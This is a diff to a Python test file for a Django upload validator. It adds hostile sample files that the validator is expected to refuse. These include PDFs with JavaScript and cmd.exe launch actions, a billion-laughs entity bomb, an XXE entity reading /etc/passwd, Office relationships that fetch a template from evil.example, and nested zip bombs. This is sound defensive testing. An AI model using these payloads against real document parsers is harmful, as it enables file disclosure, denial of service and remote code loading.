@@ -6,6 +6,7 @@ import time
 import zipfile
 import zlib
 
+import pikepdf
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from PIL import Image
@@ -90,6 +91,77 @@ HONEST = {
     "chart.png": picture("PNG"),
 }
 
+
+def pdf_with(act):
+    """A page of PDF with something more."""
+    with pikepdf.new() as made:
+        made.add_blank_page()
+        act(made)
+        out = io.BytesIO()
+        made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    return out.getvalue()
+
+
+def runs(pdf, kind="JavaScript", **keys):
+    action = pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **keys)
+    pdf.Root.OpenAction = pdf.make_indirect(action)
+
+
+def carries(pdf):
+    pdf.attachments["payload.exe"] = b"MZ"
+
+
+def pinned(pdf):
+    note = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9]
+    )
+    pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(note)])
+
+
+def locked():
+    with pikepdf.new() as made:
+        made.add_blank_page()
+        out = io.BytesIO()
+        made.save(out, encryption=pikepdf.Encryption(owner="secret", user="secret"))
+    return out.getvalue()
+
+
+def named_apart(word):
+    """The same name written with an escape, as those do who hide it."""
+    return PDF.replace(
+        b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/%s/JS(app.alert(1))>>" % word
+    )
+
+
+LAUGHS = (
+    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+    + b"".join(
+        b'<!ENTITY lol%d "%s">' % (n, b"&lol%s;" % (b"" if n == 1 else b"%d" % (n - 1)) * 10)
+        for n in range(1, 10)
+    )
+    + b"]><w:document>&lol9;</w:document>"
+)
+OUTSIDE = b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
+ELSEWHERE = (
+    '<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/'
+    '2006/relationships/%s" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+    "</Relationships>"
+)
+
+
+def nested():
+    """A document that carries a sheet that is a bomb."""
+    sheet = office(".xlsx", extra={"xl/media/zeros.bin": b"\0" * (30 * 1024 * 1024)})
+    return office(extra={"word/embeddings/sheet.xlsx": sheet})
+
+
+def zipped(content):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("payload.class", content)
+    return out.getvalue()
+
+
 HOSTILE = {
     "empty": ("a.pdf", b""),
     "program": ("a.exe", b"MZ"),
@@ -113,6 +185,44 @@ HOSTILE = {
     "path that climbs": ("a.docx", office(extra={"../../evil": b"x"})),
     "something before the zip": ("a.docx", b"#!/bin/sh\n" + office()),
     "something after the zip": ("a.docx", office() + b"<html>"),
+    "macros under another name": (
+        "a.docx",
+        office(types='ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"'),
+    ),
+    "a bomb in a document": ("a.docx", nested()),
+    "an archive in a document": ("a.docx", office(extra={"word/embeddings/a.zip": zipped(b"x")})),
+    "a program in a document": ("a.docx", office(extra={"word/embeddings/a.exe": b"MZ"})),
+    "a control in a document": ("a.docx", office(extra={"word/activeX/activeX1.bin": b"x"})),
+    "a billion laughs": ("a.docx", office(extra={"word/styles.xml": LAUGHS})),
+    "entities from outside": ("a.docx", office(extra={"customXml/item1.xml": OUTSIDE})),
+    "entities in UTF-16": (
+        "a.docx",
+        office(extra={"word/styles.xml": OUTSIDE.decode().encode("utf-16")}),
+    ),
+    "a document type after a long comment": (
+        "a.docx",
+        office(extra={"word/styles.xml": b"<!--" + b"x" * 70_000 + b"-->" + OUTSIDE}),
+    ),
+    "entities among relations": ("a.docx", office(extra={"word/_rels/a.rels": OUTSIDE})),
+    "a template from the network": (
+        "a.docx",
+        office(extra={"word/_rels/settings.xml.rels": ELSEWHERE % "attachedTemplate"}),
+    ),
+    "an object from the network": (
+        "a.docx",
+        office(extra={"word/_rels/document.xml.rels": ELSEWHERE % "oleObject"}),
+    ),
+    "pdf with a jar behind": ("a.pdf", PDF + zipped(b"\xca\xfe\xba\xbe") + b"%%EOF\nstartxref"),
+    "pdf that runs a script": ("a.pdf", pdf_with(lambda pdf: runs(pdf, JS="app.alert(1)"))),
+    "pdf that hides the word": ("a.pdf", named_apart(b"J#61vaScript")),
+    "pdf that starts a program": ("a.pdf", pdf_with(lambda pdf: runs(pdf, "Launch", F="cmd.exe"))),
+    "pdf that carries a file": ("a.pdf", pdf_with(carries)),
+    "pdf with a file pinned to a page": ("a.pdf", pdf_with(pinned)),
+    "pdf under a password": ("a.pdf", locked()),
+    "pdf without pages": ("a.pdf", PDF.replace(b"[3 0 R]/Count 1", b"[]/Count 0")),
+    "picture with a page behind its head": ("a.png", b"\x89PNG\r\n\x1a\n<html><script>1</script>"),
+    "gif as png": ("a.png", picture("GIF") + zipped(b"x")),
+    "empty picture": ("a.png", b""),
 }
 
 
@@ -135,6 +245,41 @@ def test_hostile_files_are_refused_quickly_and_in_words(case):
     assert time.monotonic() - began < 2
     assert refusal.value.field == "file"
     assert f"“{clean_name(name)}”" in str(refusal.value)
+
+
+def test_a_link_and_a_word_about_scripts_are_no_scripts():
+    def write(pdf):
+        pdf.docinfo["/Title"] = "How (we) use /JavaScript and /Launch"
+
+    linked = ELSEWHERE % "hyperlink"
+
+    assert check_upload(upload("a.pdf", pdf_with(write))).size > 0
+    assert check_upload(upload("a.docx", office(extra={"word/_rels/document.xml.rels": linked})))
+
+
+@pytest.mark.parametrize(
+    ("case", "words"),
+    [
+        ("pdf under a password", "is locked with a password"),
+        ("pdf that runs a script", "runs a program when it is read"),
+        ("pdf that carries a file", "carries other files inside"),
+        ("a template from the network", "loads something from the network"),
+        ("macros", "holds macros"),
+        ("zip bomb", "would unpack to an unreasonable size"),
+    ],
+)
+def test_what_can_be_mended_is_said(case, words):
+    with pytest.raises(DomainError) as refusal:
+        check_upload(upload(*HOSTILE[case]))
+
+    assert words in str(refusal.value)
+
+
+def test_a_place_may_take_some_types_only():
+    with pytest.raises(DomainError) as refusal:
+        check_upload(upload("chart.png", picture("PNG")), endings=(".docx", ".pdf"))
+
+    assert str(refusal.value) == "“chart.png” is of a type that is not taken here. Send DOCX, PDF."
 
 
 def test_a_file_beyond_the_limit_is_refused_before_it_is_read():
